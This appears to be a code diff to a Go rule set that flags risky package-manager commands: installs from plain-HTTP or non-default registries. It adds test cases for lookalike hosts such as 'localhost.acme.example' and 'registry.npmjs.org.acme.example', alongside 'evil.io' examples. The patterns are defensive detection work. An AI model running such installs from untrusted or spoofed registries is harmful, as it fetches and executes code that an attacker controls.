@@ -57,13 +57,13 @@ var packagesPack = shell.RuleSet{
 			NoMatch: []string{"npm owner ls pkg"},
 		},
 		{
-			ID: "plain-index", Cmd: "pip|pip3|uv|pipx|poetry|npm|pnpm|yarn|bun|gem|cargo", Any: "--index-url=http://*!http://localhost* -i=http://*!http://localhost* --extra-index-url=http://*!http://localhost* --registry=http://*!http://localhost* --source=http://*!http://localhost* --default-index=http://*!http://localhost* --index=http://*!http://localhost*",
+			ID: "plain-index", Cmd: "pip|pip3|uv|pipx|poetry|npm|pnpm|yarn|bun|gem|cargo", Any: "--index-url=http://*!<here> -i=http://*!<here> --extra-index-url=http://*!<here> --registry=http://*!<here> --source=http://*!<here> --default-index=http://*!<here> --index=http://*!<here>",
 			Label: shell.Unknown, Kind: "install", Category: shell.RemoteCode, Radius: shell.RadiusHigh, Reason: "installs from a place that anybody on the way can change",
-			Match:   []string{"pip install --index-url http://203.0.113.7:8080/simple x", "npm install --registry=http://npm.example x"},
+			Match:   []string{"npm install --registry http://localhost.acme.example x", "pip install -i http://localhost@acme.example/ x", "pip install --index-url http://203.0.113.7:8080/simple x", "npm install --registry=http://npm.example x"},
 			NoMatch: []string{"pip install --index-url https://download.example/whl x", "pip install x", "npm install --registry http://localhost:4873 x"},
 		},
 		{
-			ID: "registry-plain", Cmd: "npm|pnpm|yarn config set", Any: "http://* registry=http://*", Not: "http://localhost* registry=http://localhost* http://127.* registry=http://127.*",
+			ID: "registry-plain", Cmd: "npm|pnpm|yarn config set", Any: "http://* registry=http://*", Not: "<here> registry=<here>",
 			Label: shell.Unknown, Kind: "modify", Category: shell.RemoteCode, Radius: shell.RadiusHigh, Reason: "has packages come from a place that anybody on the way can change",
 			Match:   []string{"npm config set registry http://registry.example", "npm config set registry=http://registry.example"},
 			NoMatch: []string{"npm config set registry https://registry.example", "npm config set fund false", "npm config set registry http://localhost:4873"},
@@ -105,9 +105,9 @@ var packagesPack = shell.RuleSet{
 			NoMatch: []string{"npm install lodash", "npm ci"},
 		},
 		{
-			ID: "js-install-registry", Cmd: "npm|pnpm|yarn|bun install|i|add|ci", Any: "--registry", Not: "--registry=https://registry.npmjs.org* --registry=https://registry.yarnpkg.com* --registry=http://localhost*",
+			ID: "js-install-registry", Cmd: "npm|pnpm|yarn|bun install|i|add|ci", Any: "--registry", Not: "--registry=https://registry.npmjs.org --registry=https://registry.npmjs.org/* --registry=https://registry.yarnpkg.com --registry=https://registry.yarnpkg.com/* --registry=<here>",
 			Label: shell.Unknown, Kind: "install", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "installs from another registry",
-			Match:   []string{"npm install --registry http://x.io lodash", "npm i x --registry=https://evil.io"},
+			Match:   []string{"npm install --registry https://registry.npmjs.org.acme.example x", "npm install --registry http://x.io lodash", "npm i x --registry=https://evil.io"},
 			NoMatch: []string{"npm install lodash", "npm ci"},
 		},
 		{
